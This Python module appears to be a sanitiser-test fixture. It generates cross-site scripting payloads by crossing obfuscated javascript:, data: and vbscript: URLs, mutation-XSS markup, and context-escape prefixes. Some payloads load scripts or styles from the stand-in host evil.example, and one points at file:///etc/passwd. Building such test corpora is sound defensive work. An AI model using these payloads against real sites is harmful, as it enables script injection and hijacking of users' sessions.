"""What people put into fields to make a page do what they want: made by crossing tricks with places."""

from __future__ import annotations

from itertools import product
from typing import Final

# Addresses that would run something, in the spellings that have slipped past filters.
URLS: Final = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    " javascript:alert(1)",
    "\x01javascript:alert(1)",
    "java\tscript:alert(1)",
    "java\nscript:alert(1)",
    "java\rscript:alert(1)",
    "javascript\t:alert(1)",
    "\u00a0javascript:alert(1)",
    "\u2028javascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "java\u00adscript:alert(1)",
    "ｊａｖａｓｃｒｉｐｔ:alert(1)",
    "javascript：alert(1)",
    "&#106;avascript:alert(1)",
    "&#x6A;avascript:alert(1)",
    "&#0000106avascript:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "javascript&#x3a;alert(1)",
    "jav&#x09;ascript:alert(1)",
    "jav&Tab;ascript:alert(1)",
    "jav&NewLine;ascript:alert(1)",
    "javascript://acme.example/%0aalert(1)",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+alert(1)//'>",
    "http:javascript:alert(1)",
    "feed:javascript:alert(1)",
    "view-source:javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "DATA:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
    "vbscript:msgbox(1)",
    "livescript:alert(1)",
    "blob:https://acme.example/1",
    "file:///etc/passwd",
    "//evil.example/x.js",
    "\\\\evil.example\\x.js",
    "/\\evil.example",
    "https:evil.example\" onmouseover=\"alert(1)",
]  # fmt: skip
URL_PLACES: Final = [
    "{}",
    """<a href="{}">x</a><img src='{}' srcset='{} 2x'><svg><a xlink:href='{}'><text x=1>x</text></a></svg>""",
]

# Elements and attributes that run, load or lead away.
ELEMENTS: Final = [
    "<script>alert(1)</script>",
    "<ScRiPt\x0c/src=//evil.example/x.js></ScRiPt>",
    "<script/type=module>import('//evil.example/x.js')</script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'//",
    "<img src=x:x onerror\x0b=alert(1)>",
    "<IMG \"\"\"><SCRIPT>alert(1)</SCRIPT>\">",
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate xlink:href=#x attributeName=href values=javascript:alert(1) /><a id=x><text y=9>x</text></a>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=alert(1)>\">",
    "<svg><title><a title=\"</title><img src=x onerror=alert(1)>\">",
    "<math><mi//xlink:href=\"data:x,<script>alert(1)</script>\">",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=alert(1)></style></annotation-xml></math>",
    "<math><mtext><option><x><option><mglyph><svg><mtext><style><a title=\"</style><img src onerror=alert(1)>\">",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<noframes><style></noframes><img src=x onerror=alert(1)></style></noframes>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<textarea><p title=\"</textarea><img src=x onerror=alert(1)>\">",
    "<title><p title=\"</title><img src=x onerror=alert(1)>\">",
    "<plaintext><img src=x onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<template shadowrootmode=open><img src=x onerror=alert(1)></template>",
    "<select><template><img src=x onerror=alert(1)></template></select>",
    "<style>@import'//evil.example/x.css';</style>",
    "<p style=\"background:url(//evil.example/x)\" class=frame id=main>x</p>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
    "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
    "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
    "<embed src=//evil.example/x.swf allowscriptaccess=always>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<video><source onerror=alert(1)></video>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<picture><source srcset=//evil.example/x.png></picture>",
    "<button popovertarget=x onclick=alert(1)>x</button><div popover id=x onbeforetoggle=alert(1)>x</div>",
    "<table background=//evil.example/x.png><tr><td background=javascript:alert(1)>x",
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!-- --!><img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY e \"<script>alert(1)</script>\">]>&e;",
    "<?php echo 1 ?><% alert(1) %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "＜script＞alert(1)＜/script＞",
    "\u202e<script>alert(1)</script>\u2066",
    "{{7*7}}{% raw %}{{ config }}",
    "${alert(1)}`${alert(1)}`",
    "{\"@context\":\"https://schema.org\"}</script><script>alert(1)</script>",
    "a\u2028</script\u2029><script>alert(1)</script><!--",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert(1) )"
    "//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert(1)//>",
    "\">'><details/open/ontoggle=alert(1)//",
]  # fmt: skip
# What a payload is put behind, to leave the text, attribute, element or document it was put into.
EXITS: Final = [
    "{}",
    "'\">{}",
    "</script></title></textarea></style>{}",
    "]]></content></entry>{}",
    "x\" onfocus=alert(1) autofocus x='{}",
]

PAYLOADS: Final = list(
    dict.fromkeys(
        place.replace("{}", told)
        for places, payloads in ((URL_PLACES, URLS), (EXITS, ELEMENTS))
        for place, told in product(places, payloads)
    )
)
